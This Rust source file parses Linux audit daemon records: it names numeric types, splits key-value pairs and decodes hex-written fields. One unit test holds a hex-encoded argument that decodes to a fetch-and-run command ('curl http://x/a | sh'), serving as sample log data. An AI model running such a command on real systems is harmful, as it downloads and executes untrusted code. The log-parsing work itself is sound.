//! Records of the Linux audit daemon: `type=SYSCALL msg=audit(1364481363.243:24287): arch=… exe="…"`.
//!
//! Values that the kernel writes in hexadecimal, because whoever named them could have put a blank or a
//! quote there, are turned into text. Numbers of types, as the kernel's own log has them, become names.
//! The lines of one event are joined by `audit.rs`, not here.

use std::borrow::Cow;

use super::{header::Header, shape::Shape, words::around_sign, words::find};
use crate::{
    Hints,
    time::{self, Zoneless},
};

/// Names of the types that the kernel's own log gives as numbers.
const TYPES: [(&str, &str); 25] = [
    ("1100", "USER_AUTH"),
    ("1101", "USER_ACCT"),
    ("1102", "USER_MGMT"),
    ("1103", "CRED_ACQ"),
    ("1104", "CRED_DISP"),
    ("1105", "USER_START"),
    ("1106", "USER_END"),
    ("1108", "USER_CHAUTHTOK"),
    ("1112", "USER_LOGIN"),
    ("1114", "ADD_USER"),
    ("1115", "DEL_USER"),
    ("1116", "ADD_GROUP"),
    ("1117", "DEL_GROUP"),
    ("1123", "USER_CMD"),
    ("1130", "SERVICE_START"),
    ("1131", "SERVICE_STOP"),
    ("1300", "SYSCALL"),
    ("1302", "PATH"),
    ("1305", "CONFIG_CHANGE"),
    ("1306", "SOCKADDR"),
    ("1307", "CWD"),
    ("1309", "EXECVE"),
    ("1326", "SECCOMP"),
    ("1327", "PROCTITLE"),
    ("1400", "AVC"),
];

pub(super) fn of(header: &Header<'_>, hints: &Hints, shape: &mut Shape<'_>) -> Option<()> {
    let line = parts(header.message)?;
    shape.is("linux", "auditd");
    let named = TYPES.iter().find(|(number, _)| *number == line.kind);
    shape.put("type", named.map_or(line.kind, |(_, name)| name));
    shape.put_some("node", line.node);
    let (seconds, serial) = line.stamp.split_once(':').unwrap_or((line.stamp, ""));
    shape.when = time::of_text(seconds, Zoneless::Utc, hints);
    shape.put("serial", serial);
    for pair in pairs(line.rest) {
        shape.put(pair.name, &value(&pair));
    }
    Some(())
}

/// A line taken apart.
pub(crate) struct Parts<'l> {
    pub(crate) node: Option<&'l str>,
    kind: &'l str,
    /// Time and serial number, which all lines of one event share.
    pub(crate) stamp: &'l str,
    rest: &'l str,
}

/// Takes a line apart; none if it is not the daemon's.
pub(crate) fn parts(message: &str) -> Option<Parts<'_>> {
    let at = find(message, "type=")?;
    let (before, text) = message.split_at_checked(at)?;
    let node = before.trim().strip_prefix("node=");
    // Only marks of programs that pass lines on may stand before it, so that nobody's words are taken for it.
    let marks = |word: &str| {
        word.ends_with(':')
            || word.starts_with('[')
            || word.ends_with(']')
            || word.starts_with("node=")
    };
    if !before.split_whitespace().all(marks) {
        return None;
    }
    let (kind, rest) = text.strip_prefix("type=")?.split_once(' ')?;
    let rest = rest.strip_prefix("msg=").unwrap_or(rest);
    let (stamp, rest) = rest.strip_prefix("audit(")?.split_once("):")?;
    Some(Parts {
        node,
        kind,
        stamp,
        rest,
    })
}

struct Pair<'l> {
    name: &'l str,
    value: &'l str,
    quoted: bool,
}

/// The pairs of a line. What user space adds stands in single quotes, with pairs of its own inside.
fn pairs(text: &str) -> impl Iterator<Item = Pair<'_>> {
    let blank = |b: u8| b.is_ascii_whitespace() || matches!(b, 0x1d | b'\'');
    let mut rest = text;
    std::iter::from_fn(move || {
        loop {
            let (before, after) = around_sign(rest, b'=')?;
            let begin = before.bytes().rposition(blank).map_or(0, |at| at + 1);
            let name = before.get(begin..)?;
            if let Some(inner) = after.strip_prefix('\'') {
                // `msg='…'` is no pair but a bracket.
                rest = inner;
                continue;
            }
            let quoted = after.strip_prefix('"');
            let value = if let Some(inner) = quoted {
                let (value, after) = around_sign(inner, b'"').unwrap_or((inner, ""));
                rest = after;
                value
            } else {
                let end = after.bytes().position(blank);
                let (value, after) = after.split_at_checked(end.unwrap_or(after.len()))?;
                rest = after;
                value
            };
            if !name.is_empty() {
                return Some(Pair {
                    name,
                    value,
                    quoted: quoted.is_some(),
                });
            }
        }
    })
}

/// Names whose values the kernel writes in hexadecimal where they are not plain.
fn is_untrusted(name: &str) -> bool {
    const NAMES: [&str; 16] = [
        "proctitle",
        "comm",
        "exe",
        "name",
        "cwd",
        "cmd",
        "acct",
        "data",
        "dir",
        "file",
        "path",
        "watch",
        "key",
        "ocomm",
        "vm",
        "new-disk",
    ];
    let argument = || {
        let digits = name.strip_prefix('a')?;
        let digits = digits.split('[').next()?;
        digits.parse::<u16>().ok()
    };
    NAMES.contains(&name) || argument().is_some()
}

fn value<'l>(pair: &Pair<'l>) -> Cow<'l, str> {
    let is_hex = !pair.quoted && may_be_hex(pair.value) && is_untrusted(pair.name);
    let decoded = is_hex.then(|| of_hex(pair.value));
    decoded
        .flatten()
        .map_or(Cow::Borrowed(pair.value), Cow::Owned)
}

/// Whether a value may be text in hexadecimal. Arguments of a system call are small numbers in small letters, or too
/// short to be text.
fn may_be_hex(value: &str) -> bool {
    let upper = |b: u8| b.is_ascii_digit() || matches!(b, b'A'..=b'F');
    value.len() >= 4 && value.len().is_multiple_of(2) && value.bytes().all(upper)
}

/// The text that hexadecimal digits write; zero bytes part the arguments of a command.
fn of_hex(text: &str) -> Option<String> {
    let mut bytes = Vec::new();
    for pair in text.as_bytes().chunks(2) {
        let digits = std::str::from_utf8(pair).ok()?;
        let byte = u8::from_str_radix(digits, 16).ok()?;
        bytes.push(if byte == 0 { b' ' } else { byte });
    }
    let text = String::from_utf8(bytes).ok()?;
    let shown = |c: char| !c.is_control() || c.is_whitespace();
    text.chars().all(shown).then_some(text)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use crate::syslog::tests::{check, understand};

    #[test]
    fn lines_of_the_daemon_and_of_the_kernel_are_read() {
        check(
            "node=web1 type=EXECVE msg=audit(1776415024.250:24287): argc=3 a0=\"/bin/sh\" a1=\"-c\" a2=6375726C20687474703A2F2F782F61207C207368",
            "linux/auditd",
            Some("2026-04-17T08:37:04.25Z"),
            json!({"type": "EXECVE", "a2": "curl http://x/a | sh", "node": "web1", "serial": "24287"}),
        );
        check(
            "<13>Apr 17 08:37:04 web1 kernel: [12.3] audit: type=1327 audit(1776415024.250:24287): proctitle=73736864003A2F",
            "linux/auditd",
            Some("2026-04-17T08:37:04.25Z"),
            json!({"type": "PROCTITLE", "proctitle": "sshd :/"}),
        );
        check(
            "type=USER_LOGIN msg=audit(1776415024.250:9): pid=1 uid=0 auid=1000 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.4 terminal=ssh res=success'\u{1d}UID=\"root\" AUID=\"bob\"",
            "linux/auditd",
            Some("2026-04-17T08:37:04.25Z"),
            json!({"op": "login", "addr": "203.0.113.4", "res": "success", "AUID": "bob", "UID": "root"}),
        );
        check(
            "type=SYSCALL msg=audit(1776415024.250:9): arch=c000003e syscall=59 a0=55d0 a1=1234 comm=\"sh\"\u{1d}ARCH=x86_64 SYSCALL=execve",
            "linux/auditd",
            Some("2026-04-17T08:37:04.25Z"),
            json!({"a0": "55d0", "ARCH": "x86_64", "SYSCALL": "execve", "comm": "sh"}),
        );
    }

    #[test]
    fn words_of_others_are_not_taken_for_the_daemons() {
        let (found, _) = understand(
            "<13>Apr 17 08:37:04 web1 app: user says type=USER_LOGIN msg=audit(1776415024.250:9): acct=\"root\"",
        );
        assert_ne!(found.kind.service, Some("auditd"));
        for line in [
            "type=",
            "type=A msg=audit(",
            "type=A audit(1:2):",
            "type=A msg=audit(1:2): a='b",
        ] {
            understand(line);
        }
    }
}
